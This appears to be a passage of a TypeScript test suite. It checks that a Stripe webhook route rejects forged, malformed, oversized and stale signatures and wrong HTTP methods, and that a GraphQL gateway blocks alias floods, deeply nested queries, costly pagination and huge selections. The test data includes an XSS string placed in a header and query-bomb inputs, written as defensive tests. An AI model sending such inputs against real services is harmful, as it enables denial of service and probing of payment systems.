      ['garbage, with a header', '{not json', { 'stripe-signature': signedWith('whsec_guess', '{not json') }],
      ['empty', '', {}],
      ['an event, unsigned', event, {}],
      ['an event, signed with a guessed secret', event, { 'stripe-signature': signedWith('whsec_guessed0123456789', event) }],
      ['an event, a malformed header', event, { 'stripe-signature': 'v1=<script>alert(1)</script>' }],
      ['an event, a header of 8 KiB', event, { 'stripe-signature': `t=${t},v1=${'0'.repeat(8_192)}` }],
      ['an event, signed long ago', event, { 'stripe-signature': signedWith('whsec_guessed0123456789', event, t - 86_400) }],
      ['binary', String.fromCharCode(...Array.from({ length: 256 }, (_, i) => i)), {}],
    ];
    for (const [what, body, headers] of bad) {
      const res = await deliver(body, headers);
      expect(res.status, what).toBe(400);
      expect((await res.json()).error.code, what).toBe('BAD_SIGNATURE');
    }
    // Headers past the HTTP server's own limit never reach the route.
    expect((await deliver(event, { 'stripe-signature': `t=${t},v1=${'0'.repeat(65_536)}` })).status).toBe(431);
    for (const method of ['GET', 'PUT', 'DELETE']) {
      const res = await deliver(method === 'GET' ? null : event, {}, method);
      expect(res.status, method).toBe(405);
    }
    expect(await recorded()).toBe(0);
  });

  it.runIf(run)('refuses query bombs built from payments fields at the gateway before any subgraph is called', async () => {
    const expectRejected = async (query: string, code: string) => {
      const before = p.host.gateway!.stats.subgraphCalls;
      const res = await fetchCounted(`${p.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', authorization: `Bearer ${tokens.owner}` }, body: JSON.stringify({ query }) });
      const body = await res.json();
      expect(body.errors?.[0]?.extensions?.code, JSON.stringify(body).slice(0, 300)).toBe(code);
      expect(body.data ?? null).toBeNull();
      expect(p.host.gateway!.stats.subgraphCalls).toBe(before);
    };
    // Aliases multiplying a payments read.
    await expectRejected(`{ ${Array.from({ length: 100 }, (_, i) => `a${i}: tier(id: "${base}") { id name }`).join(' ')} }`, 'TOO_MANY_ALIASES');
    // Tier.viewerSubscription -> TierSubscription.tier -> ... nests without end in the schema.
    await expectRejected(`{ tier(id: "${base}") { ${'viewerSubscription { tier { '.repeat(20)}id${' } }'.repeat(20)} } }`, 'QUERY_TOO_DEEP');
    await expectRejected(`{ disputes(communityId: "${club.id}") { subscription { ${'tier { viewerSubscription { '.repeat(20)}id${' } }'.repeat(20)} } } }`, 'QUERY_TOO_DEEP');
    // Pages of pages: the whole ledger twenty times.
    await expectRejected(`{ ${Array.from({ length: 20 }, (_, i) => `l${i}: ledger(communityId: "${club.id}", first: 500) { id description user { id } }`).join(' ')} }`, 'QUERY_TOO_COSTLY');
    await expectRejected(`{ communitySubscriptions(communityId: "${club.id}", first: 100000) { id tier { prices { id } } } }`, 'QUERY_TOO_COSTLY');
    // A huge selection.
    await expectRejected(`{ paymentsInfo { ${'testMode '.repeat(20_000)} } }`, 'TOO_MANY_TOKENS');
    // A normal payments query still works.
    expect((await owner(`query($c: ID!) { ledger(communityId: $c, first: 10) { id } }`, { c: club.id })).errors).toBeUndefined();
  });
});
